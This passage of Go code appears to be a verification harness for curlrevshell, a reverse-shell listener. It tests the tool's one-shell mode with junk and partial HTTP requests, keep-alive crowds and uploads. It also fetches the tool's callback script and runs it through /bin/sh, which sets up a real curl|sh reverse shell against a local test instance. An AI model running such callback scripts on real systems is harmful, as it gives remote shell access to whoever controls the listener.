		e.res.count("junk_requests_with_unfinished_unasked_body", 1)
	}
}

// requestsInProgress: requests the program is still in the MIDDLE of when the
// shell comes and goes - traffic in flight that is not the shell's.  The
// handler (or net/http itself) is waiting for the client: a form posted to /c
// (`curl -d c2=...`, documented) of which only a part has arrived, with a
// declared length and chunked; an OPTIONS * request (answered by net/http
// itself) with an unfinished body; a download of a big file whose client has
// stopped reading.  Their clients stay connected and silent for the rest of
// the run.
func (e *env) requestsInProgress() {
	type rq struct{ label, head string }
	rqs := []rq{
		{"POST /c with a form body of which 4 of 100 declared bytes were sent", "POST /c HTTP/1.1\r\nHost: fake.shell\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\nc2=a"},
		{"POST /c with an unfinished chunked form body", "POST /c HTTP/1.1\r\nHost: fake.shell\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nc2=a\r\n"},
		{"OPTIONS * with 3 of 100 declared body bytes sent", "OPTIONS * HTTP/1.1\r\nHost: fake.shell\r\nContent-Length: 100\r\n\r\nabc"},
		{"OPTIONS * with an unfinished chunked body", "OPTIONS * HTTP/1.1\r\nHost: fake.shell\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n"},
	}
	if e.cfg.Files {
		rqs = append(rqs, rq{"GET /big.bin (64 MiB) whose client never reads the answer", "GET /big.bin HTTP/1.1\r\nHost: fake.shell\r\n\r\n"})
	}
	for _, q := range rqs {
		c, err := hk.Dial(e.addr, "")
		if err != nil {
			e.tl.add("JUNK  %s: dial failed: %v", q.label, err)
			continue
		}
		e.keep(connCloser{c})
		if _, err := io.WriteString(c, q.head); err != nil {
			e.tl.add("JUNK  %s: %v", q.label, err)
			continue
		}
		e.tl.add("JUNK  %s; the client stays connected and does nothing more", q.label)
		e.held = append(e.held, q.label)
		e.heldInProgress++
		e.res.count("junk_requests_in_progress_left_hanging", 1)
		if strings.HasPrefix(q.head, "GET /big.bin") {
			e.res.count("junk_downloads_left_hanging", 1)
		}
	}
	// let the program get into them
	time.Sleep(150 * time.Millisecond)
}

// connectionDropped: the peer accepted the TCP connection and then reset or
// closed it before the TLS handshake or the request got anywhere.
func connectionDropped(err error) bool {
	if errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) || errors.Is(err, syscall.ECONNRESET) || errors.Is(err, syscall.EPIPE) {
		return true
	}
	m := err.Error()
	return strings.Contains(m, "connection reset by peer") || strings.Contains(m, "broken pipe") || strings.HasSuffix(m, "EOF")
}

// crowd: many clients that have been served or refused and simply stay
// connected (keep-alive connections nobody closes): several hundred of them,
// more than any connection cap of 256, before the real shell arrives.
func (e *env) crowd(n int) {
	var mu sync.Mutex
	got := 0
	mon.Parallel(n, 16, func(k int) {
		c, err := hk.Dial(e.addr, "")
		if err != nil {
			return
		}
		target := []string{"/c", "/f.txt", "/no-such-file", "/c?c2=crowd.example"}[k%4] // all answered on a connection that stays usable
		fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: fake.shell\r\n\r\n", target)
		c.SetReadDeadline(time.Now().Add(boundNotice * e.mult))
		buf := make([]byte, 4096)
		m, _ := c.Read(buf)
		c.SetReadDeadline(time.Time{})
		mu.Lock()
		e.conns = append(e.conns, connCloser{c})
		if m > 0 {
			got++
		}
		mu.Unlock()
	})
	e.tl.add("JUNK  a crowd of %d keep-alive clients (GET /c, a file, a missing file), %d answered; all stay connected", n, got)
	e.held = append(e.held, fmt.Sprintf("%d answered keep-alive connections", got))
	e.res.count("junk_crowd_connections_answered_and_kept_open", int64(got))
}

// openRealOut opens the real shell's output request: chunked, or with a
// declared length of 200 000 bytes of which only the tokens (a few KB) are ever
// sent — less than 256 KiB stay outstanding, which is the range in which
// net/http tries to read the rest of a body before it lets go of a request.
// The cases of the upload engine (upload.go) choose the method and add
// "Expect: 100-continue".
func (e *env) openRealOut(target string) (*crs.OutStream, error) {
	c := e.cfg
	if c.FixedLen {
		e.res.count("shells_uploading_with_content_length", 1)
	}
	if c.OutMethod == "" && c.OutExpect == "" {
		if c.FixedLen {
			return crs.OpenOutLen(e.addr, target, 200000)
		}
		return crs.OpenOut(e.addr, target)
	}
	declared := int64(0)
	if c.FixedLen {
		declared = 200000
	}
	method := c.OutMethod
	if method == "" {
		method = "POST"
	}
	return e.openUpload(method, target, declared, c.OutExpect)
}

// openUpload sends the header of an upload (declared > 0: with that
// Content-Length, else chunked) and, with expect == "wait", does what curl does
// with -T: it holds the body back until the program has said "100 Continue"
// (curl gives up waiting after a second and sends anyway; so does this client,
// after the notice bound, and counts it).  expect == "nowait": the header is
// there, the client does not care.
func (e *env) openUpload(method, target string, declared int64, expect string) (*crs.OutStream, error) {
	c, err := hk.Dial(e.addr, "")
	if err != nil {
		return nil, err
	}
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: fake.shell\r\n", method, target)
	if declared > 0 {
		fmt.Fprintf(&b, "Content-Length: %d\r\n", declared)
	} else {
		b.WriteString("Transfer-Encoding: chunked\r\n")
	}
	if expect != "" {
		b.WriteString("Expect: 100-continue\r\n")
		e.res.count("shell_uploads_with_expect_100_continue", 1)
		e.res.count("shell_uploads_with_expect_100_continue:"+expect, 1)
	}
	b.WriteString("\r\n")
	c.SetWriteDeadline(time.Now().Add(crs.Bound))
	if _, err := io.WriteString(c, b.String()); err != nil {
		c.Close()
		return nil, err
	}
	c.SetWriteDeadline(time.Time{})
	e.tl.add("HARNESS upload request sent: %s %s, %s, Expect: %s", method, target, map[bool]string{true: fmt.Sprintf("Content-Length: %d", declared), false: "chunked"}[declared > 0], orDash(expect))
	if expect == "wait" {
		c.SetReadDeadline(time.Now().Add(boundNotice * e.mult))
		status, err := c.R.ReadString('\n')
		for l := status; err == nil && strings.TrimRight(l, "\r\n") != ""; {
			l, err = c.R.ReadString('\n')
		}
		c.SetReadDeadline(time.Time{})
		if err == nil && strings.HasPrefix(status, "HTTP/1.1 100") {
			e.res.count("expect_100_continue_received", 1)
			e.tl.add("HARNESS the program said %q; the client starts its body", strings.TrimSpace(status))
		} else {
			// not this property: the client sends its body anyway, as curl does
			e.res.count("expect_100_continue_not_received", 1)
			e.tl.add("HARNESS no 100 Continue (%q, %v); the client sends its body anyway", strings.TrimSpace(status), err)
		}
	}
	return &crs.OutStream{C: c, Fixed: declared > 0}, nil
}

// checkTraffic waits for everything sent to have arrived and compares.
func (e *env) checkTraffic(t *traffic, wantOut bool) bool {
	res := e.res
	sent, typed := t.counts()
	t.mu.Lock()
	serr := t.sendErr
	res.count("tokens_sent_before_second_half", int64(t.sentPre))
	res.count("lines_typed_before_second_half", int64(t.typedPre))
	res.count("tokens_sent_after_refusal", int64(t.sentPost))
	res.count("lines_typed_after_refusal", int64(t.typedPost))
	t.mu.Unlock()
	e.tl.add("TRAFFIC %d tokens sent, %d lines typed", sent, typed)
	if serr != nil {
		var ne net.Error
		if errors.As(serr, &ne) && ne.Timeout() {
			res.fire("shell-traffic-disturbed-by-close", "the program stopped reading the attached shell's output stream: %v", serr)
			return false
		}
		res.violate("shell-traffic-disturbed-by-close", "the attached shell's output stream failed while it was live: %v", serr)
		return false
	}
	// lines at the fake shell
	dl := time.Now().Add(boundTraffic * e.mult)
	for {
		n, rerr := t.receivedTyped()
		if n >= typed || rerr != nil || !time.Now().Before(dl) {
			break
		}
		time.Sleep(2 * time.Millisecond)
	}
	t.rmu.Lock()
	gotAll := append([]string(nil), t.got...)
	rerr := t.rerr
	t.rmu.Unlock()
	// what Tab inserted lies between the typed lines (keys.go); without a Tab press got is everything received
	got, blocks := splitInserts(gotAll, t.inserts)
	if rerr != nil {
		res.violate("shell-traffic-disturbed-by-close", "the attached shell's input stream ended (%v) while the harness kept the shell attached; %d of %d typed lines had arrived, %d tokens had been sent", rerr, len(got), typed, sent)
		return false
	}
	if strings.Contains(afterLast(e.s.P.Clean(), "Shell is ready"), "Shell is gone") {
		res.violate("shell-traffic-disturbed-by-close", "a 'Shell is gone' notice appeared while the harness kept the shell attached (%d tokens sent, %d lines typed)", sent, typed)
		return false
	}
	if typed < e.cfg.NLines || (wantOut && sent < e.cfg.NTok) {
		res.fire("shell-traffic-disturbed-by-close", "only %d tokens could be sent and %d lines typed within %s (wanted %d and %d)", sent, typed, boundTraffic*e.mult, e.cfg.NTok, e.cfg.NLines)
		return false
	}
	for k := 0; k < len(got) || k < typed; k++ {
		want, have := "<nothing>", "<nothing>"
		if k < typed {
			want = line(k + 1)
		}
		if k < len(got) {
			have = got[k]
		}
		if want == have {
			continue
		}
		if k >= len(got) && rerr == nil {
			res.fire("shell-traffic-disturbed-by-close", "line %d of %d typed by the operator (%q) did not reach the attached shell within %s (stalled; %d arrived)", k+1, typed, want, boundTraffic*e.mult, len(got))
			return false
		}
		res.violate("shell-traffic-disturbed-by-close", "operator line %d: the shell's input stream carried %s, expected %q (typed %d, received %d, stream error %v)", k+1, strconv.Quote(have), want, typed, len(got), rerr)
		return false
	}
	res.count("lines_in_checked", int64(len(got)))
	if !e.checkInserts(t.inserts, blocks) {
		return false
	}
	if !wantOut || sent == 0 {
		return true
	}
	// tokens on the terminal
	_, lastOK := e.s.Wait(regexp.QuoteMeta(tok(sent)), 0, boundTraffic*e.mult)
	clean := e.s.P.Clean()
	seq := scanTokens(clean, false)
	if bad := firstMismatch(seq, sent); bad != "" {
		seq2 := scanTokens(clean, true)
		if bad2 := firstMismatch(seq2, sent); bad2 == "" {
			res.count("tokens_split_by_redraw_runs", 1)
		} else if !lastOK && isPrefix(seq, sent) {
			res.fire("shell-traffic-disturbed-by-close", "output token %d of %d was not displayed within %s (stalled)", len(seq)+1, sent, boundTraffic*e.mult)
			return false
		} else {
			res.violate("shell-traffic-disturbed-by-close", "output tokens on the terminal: %s (sent 1..%d in order; %d token occurrences displayed)", bad, sent, len(seq))
			return false
		}
	}
	res.count("tokens_out_checked", int64(sent))
	return true
}

// scanTokens extracts the token numbers displayed; tolerant: after deleting
// everything the line editor may put between two halves of a token.
func scanTokens(clean string, tolerant bool) []int {
	if tolerant {
		var b strings.Builder
		for i := 0; i < len(clean); i++ {
			ch := clean[i]
			if (ch >= 'a' && ch <= 'z') || ch == ' ' || ch == '>' || ch == '\r' || ch == '\n' || ch == 8 {
				continue
			}
			b.WriteByte(ch)
		}
		clean = strings.ReplaceAll(b.String(), "OUT-", "\x00")
		clean = strings.ReplaceAll(clean, "-", "")
		clean = strings.ReplaceAll(clean, "\x00", "OUT-")
	}
	var out []int
	for _, m := range tokRe.FindAllStringSubmatch(clean, -1) {
		n, _ := strconv.Atoi(m[1])
		out = append(out, n)
	}
	return out
}

func afterLast(s, sub string) string {
	if i := strings.LastIndex(s, sub); i >= 0 {
		return s[i:]
	}
	return s
}

func isPrefix(seq []int, n int) bool {
	if len(seq) > n {
		return false
	}
	for i, v := range seq {
		if v != i+1 {
			return false
		}
	}
	return true
}

func firstMismatch(seq []int, n int) string {
	for i := 0; i < len(seq) || i < n; i++ {
		switch {
		case i >= len(seq):
			return fmt.Sprintf("token %d missing (display ends after token %d)", i+1, i)
		case i >= n:
			return fmt.Sprintf("extra token %d displayed after the last one", seq[i])
		case seq[i] != i+1:
			return fmt.Sprintf("position %d shows token %d, expected %d", i+1, seq[i], i+1)
		}
	}
	return ""
}

// afterEnd: gone notice, no help, exit after at most one entered line.
// dropConns is what a well-behaved client does once its shell is gone.
func (e *env) afterEnd(markEnd int, dropConns func()) {
	res, c := e.res, e.cfg
	goneEnd, tGone, ok := e.notice(`Shell is gone :\(`, markEnd, boundNotice*e.mult)
	if !ok {
		if os.Getenv("C12_DEBUG") == "dump" {
			mark := e.s.P.CleanLen()
			e.s.P.Signal(syscall.SIGQUIT)
			e.s.P.WaitExit(10 * time.Second)
			time.Sleep(50 * time.Millisecond)
			fmt.Fprintf(os.Stderr, "==== goroutine dump of case %s %d (no gone notice)\n%s\n", c.Engine, c.Index, strings.ReplaceAll(e.s.P.Clean()[mark:], "\r", ""))
		}
		res.inconclusive("no 'Shell is gone' notice within %s after ending %s (ending a shell is not this property)", boundNotice*e.mult, c.Ending)
		return
	}
	e.tl.at(tGone, "HARNESS sees the gone notice")
	e.afterGone(goneEnd, dropConns)
}

// afterGone: the shell is known to have ended and the terminal offset goneEnd
// lies at or after its end: no help from there on, exit after at most one
// entered line.
func (e *env) afterGone(goneEnd int, dropConns func()) {
	res, c := e.res, e.cfg
	if !c.Hold {
		dropConns()
	} else {
		res.count("hold_runs", 1)
		if c.BodiedIn && c.Kind == "full" && c.Ending != "in-close" && c.Ending != "both" {
			e.heldBodied++
			e.held = append(e.held, "the ended shell's own GET /i (unasked-for request body not finished)")
		}
		if c.Ending == "in-close" {
			e.heldShellOut = true
			e.held = append(e.held, "the ended shell's own POST /o (request body not finished)")
		}
	}
	// the pre-opened connections that have been silent so far speak now, before the operator enters anything
	e.lateAfter()
	// the operator's other keys, after the shell has gone and before the one line
	e.keysAfter()
	if c.Hold && len(e.held) > 0 {
		e.tl.add("HARNESS clients stay connected: %s", strings.Join(e.held, "; "))
	}
	st, sig, exited := e.s.P.WaitExit(time.Duration(c.SelfWait) * time.Millisecond)
	if exited {
		res.count("exits_by_self", 1)
		res.count("exits_observed", 1)
		e.tl.add("EXIT  by itself: status %d signal %q", st, sig)
	} else {
		e.tl.add("HARNESS enters exactly one empty line (no exit in %d ms)", c.SelfWait)
		e.s.P.Write([]byte("\r"))
		st, sig, exited = e.s.P.WaitExit(boundExit * e.mult)
		if !exited {
			key := "does-not-exit-after-one-line"
			switch {
			case e.heldInProgress > 0:
				key += ":request-in-progress-still-connected"
			case e.heldBodied > 0:
				key += ":request-with-unasked-unfinished-body-still-connected"
			case e.heldRefusedOut > 0:
				key += ":refused-output-request-still-connected"
			case e.heldShellOut:
				key += ":ended-shell-output-request-still-connected"
			case e.keysPressed > 0:
				key += ":operator-pressed-keys-after-the-shell-had-gone"
			}
			diag := e.whyNoExit(dropConns)
			res.fire(key, "the only shell was gone (%s) and one line was entered, but the process is still running %s later; %s; terminal ends: %q", c.Ending, boundExit*e.mult, diag, tailStr(e.s.P.Clean(), 200))
			return
		}
		res.count("exits_after_one_line", 1)
		if c.SelfWait > 20000 {
			res.count("exits_after_an_unhurried_line", 1)
		}
		res.count("exits_observed", 1)
		e.tl.add("EXIT  after one entered line: status %d signal %q", st, sig)
	}
	e.p.halt()
	// everything the terminal will ever show is there now
	time.Sleep(20 * time.Millisecond)
	clean := e.s.P.Clean()
	tail := clean[goneEnd:]
	res.count("help_after_gone_scans", 1)
	if strings.Contains(tail, "To get a shell") || strings.Contains(tail, "--pinnedpubkey") {
		res.violate("callback-help-after-gone-in-one-shell", "callback help was printed after the only shell was gone: %q", tailStr(tail, 600))
	}
	if strings.Contains(tail, "Goodbye.") {
		res.count("goodbye_seen", 1)
	}
	e.statusOK(st, sig, "after its only shell ended ("+c.Ending+")")
	// the listener never came back
	e.p.mu.Lock()
	reopened, unconf := e.p.reopened, e.p.unconfirmed
	refAfter := e.p.refAfter
	e.p.mu.Unlock()
	if len(reopened) > 0 {
		res.violate("listener-reopened", "after the listener had been closed: %s", strings.Join(reopened, "; "))
	}
	if len(unconf) > 0 {
		res.inconclusive("connect succeeded after the close but the peer could not be identified: %v", unconf)
	}
	if refAfter < 10 {
		res.inconclusive("poller made only %d attempts after the close", refAfter)
	}
	res.full = true
}

var dumpFnRe = regexp.MustCompile(`(?m)^(github\.com/magisterquis/curlrevshell\S*|net/http\.\(\*Server\)\.Shutdown|net/http\.\(\*body\)\.Close|net/http\.\(\*response\)\.finishRequest|net/http\.\(\*chunkWriter\)\.writeHeader)\([^()]*\)$`)

// goroutineDump sends SIGQUIT and lists the repository / net/http shutdown
// functions that were on some stack.
func (e *env) goroutineDump() string {
	mark := e.s.P.CleanLen()
	e.s.P.Signal(syscall.SIGQUIT)
	e.s.P.WaitExit(10 * time.Second)
	time.Sleep(50 * time.Millisecond)
	dump := strings.ReplaceAll(e.s.P.Clean()[mark:], "\r", "")
	seen := map[string]bool{}
	var fns []string
	for _, m := range dumpFnRe.FindAllStringSubmatch(dump, -1) {
		if !seen[m[1]] {
			seen[m[1]] = true
			fns = append(fns, strings.TrimPrefix(m[1], "github.com/magisterquis/curlrevshell/"))
		}
	}
	return "functions on the stacks when killed with SIGQUIT: " + strings.Join(fns, ", ")
}

// whyNoExit: the exit bound fired.  Diagnosis only (the verdict is already
// in): do the clients that stayed connected keep it alive?  Does it take a
// second line?  Otherwise a goroutine dump.
func (e *env) whyNoExit(dropConns func()) string {
	var parts []string
	if len(e.held) > 0 {
		t := time.Now()
		dropConns()
		for _, c := range e.conns {
			c.Close()
		}
		parts = append(parts, "clients still connected: ["+strings.Join(e.held, "; ")+"]")
		if st, sig, ok := e.s.P.WaitExit(5 * time.Second); ok {
			parts = append(parts, fmt.Sprintf("it exited (status %d signal %q) %.0f ms after these clients hung up", st, sig, ms(time.Since(t))))
			return strings.Join(parts, "; ")
		}
		parts = append(parts, "still running 5 s after they hung up")
	} else {
		parts = append(parts, "the harness held no connection open")
	}
	t := time.Now()
	e.s.P.Write([]byte("\r"))
	if st, sig, ok := e.s.P.WaitExit(10 * time.Second); ok {
		parts = append(parts, fmt.Sprintf("it exited (status %d signal %q) %.0f ms after a SECOND line was entered", st, sig, ms(time.Since(t))))
		return strings.Join(parts, "; ")
	}
	parts = append(parts, "still running 10 s after a second entered line", e.goroutineDump())
	return strings.Join(parts, "; ")
}

// ---- the real curl | sh shell ---------------------------------------------------

func rtLine(n int) string { return fmt.Sprintf("echo RT-$((%d+%d))", 1000, n) }

func (e *env) curlShell() {
	res, c := e.res, e.cfg
	if _, err := os.Stat("/usr/bin/curl"); err != nil {
		res.inconclusive("no /usr/bin/curl")
		return
	}
	rs, err := hk.Get(e.addr, "", e.addr, "/c")
	if err != nil || rs.Status != 200 {
		if !e.phaseA(time.Time{}, "before the callback script could be fetched") {
			res.inconclusive("fetching /c failed: %v", err)
		}
		return
	}
	script := filepath.Join(filepath.Dir(e.s.Home), "callback.sh")
	os.WriteFile(script, rs.Body, 0o700)
	e.tl.add("HARNESS fetched /c (%d bytes)", len(rs.Body))

	t := &traffic{e: e}
	for k := 0; k < 20; k++ {
		t.typeLine(rtLine)
		time.Sleep(time.Millisecond)
	}
	stop := make(chan struct{})
	var wg sync.WaitGroup
	stopPump := func() {
		select {
		case <-stop:
		default:
			close(stop)
		}
		wg.Wait()
	}
	defer stopPump()
	pump := func() {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				t.typeLine(rtLine)
				time.Sleep(4 * time.Millisecond)
			}
		}()
	}
	switch c.Traffic {
	case "trickle":
		pump()
	case "inburst", "outflood":
		for k := 0; k < 50; k++ {
			t.typeLine(rtLine)
		}
	}
	t.mu.Lock()
	t.typedPre = t.typed
	t.mu.Unlock()
	e.p.waitAttempts(3, 5*time.Second)
	if e.phaseA(time.Time{}, "before the callback script was started") {
		return
	}

	var stderr bytes.Buffer
	cmd := exec.Command("/bin/sh", script)
	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + e.s.Home, "LC_ALL=C"}
	cmd.Dir = e.s.Home
	cmd.Stdout, cmd.Stderr = &stderr, &stderr
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	e.openLate()
	markSecond := e.s.P.CleanLen()
	t2 := time.Now()
	e.t2 = t2
	e.tl.at(t2, "HARNESS starts /bin/sh callback.sh (real curl)")
	if err := cmd.Start(); err != nil {
		res.inconclusive("cannot start /bin/sh: %v", err)
		return
	}
	pgid := cmd.Process.Pid
	waited := make(chan struct{})
	go func() { cmd.Wait(); close(waited) }()
	defer func() {
		syscall.Kill(-pgid, syscall.SIGKILL)
		select {
		case <-waited:
		case <-time.After(5 * time.Second):
		}
	}()

	_, tReady, ok := e.notice(`Shell is ready to go!`, markSecond, boundNotice*e.mult)
	if !ok {
		if !e.phaseA(time.Time{}, "before the curl|sh shell was completed") {
			res.inconclusive("no 'Shell is ready' notice for the curl|sh shell within %s; script said %q", boundNotice*e.mult, tailStr(stderr.String(), 200))
		}
		return
	}
	e.tl.at(tReady, "HARNESS sees the ready notice")
	if e.phaseA(t2, "before the callback script was even started") {
		return
	}
	_, _, okClosing := e.notice(`Closing listener, because -one-shell`, markSecond, 5*time.Second)
	if okClosing {
		res.count("closing_notices", 1)
	}
	ref := e.p.waitRefused(tReady.Add(boundClose * e.mult))
	if ref == nil {
		res.fire("listener-still-open-after-full-shell", "connect(2) to %s still succeeds %s after the 'Shell is ready' notice of the curl|sh shell (closing notice seen: %v)", e.addr, boundClose*e.mult, okClosing)
		return
	}
	if lat := ref.end.Sub(tReady); lat > 0 {
		res.closeLat = lat
	}
	t.closeSeen.Store(true)
	if c.Traffic != "trickle" {
		pump()
	}
	e.lateDuring("")
	t.mu.Lock()
	typedAtLate := t.typedPost
	t.mu.Unlock()
	dl := time.Now().Add(boundTraffic * e.mult)
	for time.Now().Before(dl) {
		t.mu.Lock()
		done := t.typed >= c.NLines && t.typedPost >= 60 && t.typedPost >= typedAtLate+30
		t.mu.Unlock()
		if done {
			break
		}
		select {
		case <-waited:
			dl = time.Now()
		default:
		}
		time.Sleep(2 * time.Millisecond)
	}
	stopPump()
	_, typed := t.counts()
	t.mu.Lock()
	res.count("lines_typed_before_second_half", int64(t.typedPre))
	res.count("lines_typed_after_refusal", int64(t.typedPost))
	res.count("lines_typed_after_late_requests", int64(t.typedPost-typedAtLate))
	t.mu.Unlock()
	e.tl.add("TRAFFIC %d command lines typed", typed)
	// wait for the last answer, but not if the shell is already gone
	lastRe := regexp.MustCompile(`RT-` + strconv.Itoa(1000+typed) + `\b|Shell is gone`)
	loc, lastOK := e.s.P.WaitFor(lastRe, markSecond, boundTraffic*e.mult)
	if lastOK && strings.HasPrefix(e.s.P.Clean()[loc[0]:], "Shell is gone") {
		lastOK = false
	}
	clean := e.s.P.Clean()
	var seq []int
	for _, m := range rtRe.FindAllStringSubmatch(clean, -1) {
		n, _ := strconv.Atoi(m[1])
		seq = append(seq, n-1000)
	}
	if bad := firstMismatch(seq, typed); bad != "" {
		if !lastOK && isPrefix(seq, typed) {
			select {
			case <-waited:
				res.violate("shell-traffic-disturbed-by-close", "the real curl|sh shell ended by itself after %d of %d round trips; script said %q", len(seq), typed, tailStr(stderr.String(), 300))
			default:
				res.fire("shell-traffic-disturbed-by-close", "round trip %d of %d through the real curl|sh shell did not come back within %s (stalled)", len(seq)+1, typed, boundTraffic*e.mult)
			}
			return
		}
		res.violate("shell-traffic-disturbed-by-close", "round trips through the real curl|sh shell: %s (typed 1..%d; %d answers displayed)", bad, typed, len(seq))
		return
	}
	if strings.Contains(afterLast(clean, "Shell is ready"), "Shell is gone") {
		res.violate("shell-traffic-disturbed-by-close", "a 'Shell is gone' notice appeared while the real curl|sh shell was still in use (%d round trips done)", len(seq))
		return
	}
	select {
	case <-waited:
		res.violate("shell-traffic-disturbed-by-close", "the real curl|sh shell ended by itself after %d round trips; script said %q", len(seq), tailStr(stderr.String(), 300))
		return
	default:
	}
	if typed < c.NLines {
		res.fire("shell-traffic-disturbed-by-close", "only %d command lines could be typed within %s (wanted %d)", typed, boundTraffic*e.mult, c.NLines)
		return
	}
	res.count("lines_in_checked", int64(typed))
	res.count("round_trips_real_shell", int64(typed))

	markEnd := e.s.P.CleanLen()
	e.tl.add("HARNESS ends the shell: %s", c.Ending)
	switch c.Ending {
	case "kill-pgrp":
		syscall.Kill(-pgid, syscall.SIGKILL)
	case "type-exit":
		e.s.Line("exit")
	}
	e.afterEnd(markEnd, func() {})
	select {
	case <-waited:
		res.count("curl_scripts_ended", 1)
	case <-time.After(10 * time.Second):
		e.tl.add("HARNESS callback script still running 10 s after the program; killed")
	}
}

// ---- driver -------------------------------------------------------------------

func merge(r *mon.Run, res *result, orderCount bool) {
	// the later engines count under their own names: the floors of the original list mean what they meant
	pre := ""
	if res.cfg.Engine != "" {
		pre = res.cfg.Engine + "_"
	}
	for k, v := range res.counts {
		r.Count(pre+k, v)
	}
	if !orderCount {
		return
	}
	c := res.cfg
	r.Count(pre+"runs", 1)
	if res.full {
		r.Count(pre+"runs_complete", 1)
	}
	if c.Kind == "never" {
		r.Count("runs_never_completed_shell", 1)
		return
	}
	if c.Kind == "icanhazip" {
		return
	}
	if c.Engine == "keys" {
		keysMerge(r, res)
	}
	r.Count(pre+"order_"+c.Order, 1)
	r.Count(pre+"ending_"+c.Ending, 1)
	r.Count(pre+"junk_"+c.Junk, 1)
	r.Count(pre+"traffic_"+c.Traffic, 1)
	if c.Engine == "upload" && res.full {
		// the lingering-upload scenario, judged to the end (exit observed, status checked)
		if c.Ending == "in-close" && c.Hold {
			r.Count("upload_lingering_uploads_judged_to_the_end", 1)
			if c.OutExpect != "" {
				r.Count("upload_lingering_uploads_with_expect_judged_to_the_end", 1)
				if c.FixedLen {
					r.Count("upload_lingering_uploads_with_expect_and_content_length_judged_to_the_end", 1)
				}
			}
		}
	}
}

// buildPlain compiles the program the way it is shipped: WITHOUT the race
// detector (crs.Build always switches it on).  The detector slows every
// channel operation and lock several times over, which shifts the program's
// scheduling in exactly the instants the at-once engine is about.
func buildPlain(dir string) (string, error) {
	out := filepath.Join(dir, "curlrevshell-plain")
	if _, err := os.Stat(out); err == nil {
		return out, nil
	}
	cmd := exec.Command("go", "build", "-tags", "verif", "-o", out, "github.com/magisterquis/curlrevshell")
	cmd.Dir = filepath.Join(mon.VerifDir, "harness")
	cmd.Env = append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local")
	if b, err := cmd.CombinedOutput(); err != nil {
		return "", fmt.Errorf("go build (no race detector): %v\n%s", err, b)
	}
	return out, nil
}

// job is one case of one engine.
type job struct {
	engine string
	index  int
}

func jobCfg(r *mon.Run, j job) (Cfg, *rand.Rand, *rand.Rand) {
	rot := r.Rng("rotation", 0).IntN(20)
	switch j.engine {
	case "upload":
		rng := r.Rng("upload", j.index)
		return makeUploadCfg(rng, j.index, rot), rng, r.Rng("upload-late-run", j.index)
	case "atonce":
		rng := r.Rng("atonce", j.index)
		return makeAtOnceCfg(rng, j.index, rot), rng, r.Rng("atonce-late-run", j.index)
	case "keys":
		rng := r.Rng("keys", j.index)
		return makeKeysCfg(rng, j.index, rot), rng, r.Rng("keys-late-run", j.index)
	case "icanhazip":
		rng := r.Rng("icanhazip", j.index)
		return makeIcanhazipCfg(rng, j.index, rot), rng, r.Rng("icanhazip-late-run", j.index)
	}
	rng := r.Rng("case", j.index)
	return makeCfg(rng, r.Rng("late", j.index), j.index, rot), rng, r.Rng("late-run", j.index)
}

func runJob(r *mon.Run, bin string, j job, alone bool) *result {
	cfg, rng, lrng := jobCfg(r, j)
	if cfg.PlainBuild {
		bin = filepath.Join(filepath.Dir(bin), "curlrevshell-plain")
	}
	if cfg.Engine == "icanhazip" {
		return runIcanhazip(r, bin, cfg, rng)
	}
	return runCfg(r, bin, cfg, rng, lrng, alone)
}

func Run(r *mon.Run) {
	r.Rule = "one case = one run of the real binary with -one-shell on a pty, with a connect(2) poller every 5 ms for its whole life; " +
		"distinct = (kind, arrival order, junk kind and place, in-flight traffic, ending, clients holding on, flags, what pre-opened silent connections ask for during / after the shell; " +
		"upload engine: method, framing and Expect header of the shell's output request; at-once engine: framing of the empty output body, timing of the two halves, which side ends the shell); " +
		"non-trivial: every case makes connections before the shell, passes >= 220 tokens/lines (curl|sh: >= 220 round trips; upload engine: >= 80) across the listener close and observes the exit; " +
		"every full case also opens 3-7 connections (TCP only, or TCP+TLS handshake) just before the request that completes the shell, which stay silent and send their request only later: " +
		"two kinds (a would-be shell: /io, an /i+/o pair, a duplicate /i; and /c, a file, non-HTTP bytes or a lone /i) while the shell is attached and carrying traffic (>= 30 more tokens and lines must pass afterwards), " +
		"and, after the shell has ended and before the operator's line, a would-be shell (/io or an /i+/o pair, sometimes both in turn, or a lone /i) followed by /c, a file or non-HTTP bytes; " +
		"then the usual end: no callback help, exit status 0 after at most the one entered line. " +
		"UPLOAD engine (upload.go): full cases (i-o / o-i) whose output request is POST|PUT x chunked|Content-Length: 200000 x Expect: 100-continue (the client waits for '100 Continue' before its first body byte | does not wait) | no Expect header; " +
		"three in four end with the input connection going away while the upload is idle and its client stays connected and silent for ever (< 256 KiB of the declared length outstanding); a third have refused uploads with the Expect header before the shell, lingering too. " +
		"AT-ONCE engine (atonce.go): how long the one shell lives — shells that are over the moment they are complete, with zero traffic: the output body is empty or already finished " +
		"(Content-Length: 0 | no body framing | chunked with the terminating chunk in the same write | a declared length sent whole with the header | a real curl -T /dev/null) as the second half after the input side has been attached for 20-300 ms, " +
		"both halves written back to back in either order, one /io request with such a body, or (output side attached for a while, body unfinished) the end of the body / an input request whose client hangs up at once, sent in the same breath as the other half; " +
		"an attempt that ends without a ready notice is dropped and tried again (at most 8 times per process; nothing is promised about it); once a ready notice is on the terminal: " +
		"ECONNREFUSED within the bound, never a success again, no callback help, exit status 0 after at most the one entered line. " +
		"KEYS engine (keys.go): the configuration matrix and the operator's other keys — ordinary full cases (i-o / o-i / io, junk, >= 80 tokens/lines across the close, an ending, the one line; same oracle) under the program's other documented options, " +
		"each alone and in pairs by index: -ctrl-i (not given | file .subr/.sh/.txt | directory | missing; names with a space or a %; generated shell functions with '# TABDOC:' lines of eleven shapes incl. a name without description; " +
		"a few functions | dozens | more than 1100 lines, i.e. more than the 1024 entries of the program's input queue), -callback-address (0 | 1 | 24), -callback-template (not given | file | symlink | missing), -ipv6-one-liners, -prompt, " +
